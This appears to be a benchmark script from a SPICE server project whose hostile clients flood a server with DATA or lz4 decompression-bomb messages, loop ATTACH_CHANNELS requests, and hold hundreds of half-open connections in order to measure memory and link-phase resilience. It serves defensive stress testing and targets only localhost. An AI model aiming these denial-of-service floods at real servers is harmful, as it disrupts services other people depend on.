"""Hostile SPICE clients for the memory and link-phase rows (any SPICE server).

    python benchmarks/attack_client.py data --port P --msg-size S [--lz4] [--max-bytes N]
    python benchmarks/attack_client.py attach --port P [--max-bytes N]
    python benchmarks/attack_client.py halfopen --port P --count N

`data`: link main and the port channel, then send DATA (or, with --lz4, COMPRESSED_DATA
of zeros that inflates to S bytes) over and over, never reading a byte, until the server
stops taking them for --stall seconds, closes, or N bytes went out. `attach`: link main
and send ATTACH_CHANNELS in a loop, never reading the answers. Both print one JSON line
(bytes sent, how it ended) and keep the connection open until stdin closes.
`halfopen`: open N connections from 127.0.0.2, 127.0.0.3, ... (25 from each), a third
idle, a third with only the magic, a third with a whole link message and no ticket;
print READY and hold them until stdin closes.
Blocking sockets and the sans-IO `trivmc.protocol`; nothing here is trivmc-specific.
"""

from __future__ import annotations

import argparse
import json
import socket
import struct
import sys
import time

import lz4.block

from trivmc.protocol import (
    ChannelType,
    ClientLink,
    LinkFailed,
    LinkReplyReceived,
    MainInit,
    MessageDecoder,
    MessageEncoder,
    MsgcMain,
    MsgcVmc,
    MsgMain,
    VmcCap,
)

PER_SOURCE = 25


def link(port: int, conn_id: int, ctype: int, caps: list[int]) -> tuple[socket.socket, bytes]:
    sock = socket.create_connection(("127.0.0.1", port), timeout=30)
    machine = ClientLink(conn_id, ctype, 0, caps)
    sock.sendall(machine.initiate())
    while not machine.done:
        data = sock.recv(65536)
        if not data:
            raise ConnectionError("closed during the link")
        for ev in machine.feed(data):
            if isinstance(ev, LinkFailed):
                raise ConnectionError(f"link refused: {ev.code.name}")
            if isinstance(ev, LinkReplyReceived):
                sock.sendall(ev.data)
    return sock, machine.trailing


def session_id(sock: socket.socket, trailing: bytes) -> int:
    decoder = MessageDecoder(True, 1 << 20)
    data = trailing
    while True:
        for msg in decoder.feed(data):
            if msg.type == MsgMain.INIT:
                return MainInit.decode(msg.body).session_id
        data = sock.recv(65536)
        if not data:
            raise ConnectionError("closed before MAIN_INIT")


def flood(sock: socket.socket, wire: bytes, stall: float, max_bytes: int) -> dict[str, object]:
    """Send `wire` again and again; stop when the server takes nothing for `stall`
    seconds, closes, or `max_bytes` went out."""
    sock.settimeout(stall)
    sent, ended = 0, "max-bytes"
    view = memoryview(wire)
    t0 = time.perf_counter()
    try:
        while sent < max_bytes:
            off = 0
            while off < len(view):
                off += sock.send(view[off:])
            sent += len(view)
    except TimeoutError:
        ended = "server stopped reading"
    except OSError as e:
        ended = f"server closed: {e.strerror or e}"
    return {"sent": sent, "ended": ended, "seconds": round(time.perf_counter() - t0, 2)}


def hold_until_stdin_closes() -> None:
    sys.stdin.read()


def main() -> int:
    p = argparse.ArgumentParser(description=__doc__)
    p.add_argument("mode", choices=["data", "attach", "halfopen"])
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--msg-size", type=int, default=8 << 20)
    p.add_argument("--lz4", action="store_true")
    p.add_argument("--max-bytes", type=int, default=2 << 30)
    p.add_argument("--stall", type=float, default=2.0)
    p.add_argument("--count", type=int, default=1000)
    a = p.parse_args()
    enc = MessageEncoder(True)
    if a.mode == "halfopen":
        socks = []
        whole = ClientLink(0, ChannelType.MAIN, 0).initiate()
        for i in range(a.count):
            s = socket.socket()
            s.bind((f"127.0.0.{2 + i // PER_SOURCE}", 0))
            s.connect(("127.0.0.1", a.port))
            s.sendall([b"", b"REDQ", whole][i % 3])
            socks.append(s)
        print("READY", flush=True)
        hold_until_stdin_closes()
        return 0
    main_sock, trailing = link(a.port, 0, ChannelType.MAIN, [])
    if a.mode == "attach":
        wire = enc.encode(MsgcMain.ATTACH_CHANNELS) * 10000
        res = flood(main_sock, wire, a.stall, a.max_bytes)
    else:
        sid = session_id(main_sock, trailing)
        vmc, _ = link(a.port, sid, ChannelType.PORT, [VmcCap.DATA_COMPRESS_LZ4])
        if a.lz4:
            block = lz4.block.compress(bytes(a.msg_size), store_size=False)
            wire = enc.encode(MsgcVmc.COMPRESSED_DATA, struct.pack("<BI", 1, a.msg_size) + block)
        else:
            wire = enc.encode(MsgcVmc.DATA, bytes(range(256)) * (a.msg_size // 256))
        res = flood(vmc, wire, a.stall, a.max_bytes)
    print(json.dumps(res), flush=True)
    hold_until_stdin_closes()
    return 0


if __name__ == "__main__":
    sys.exit(main())
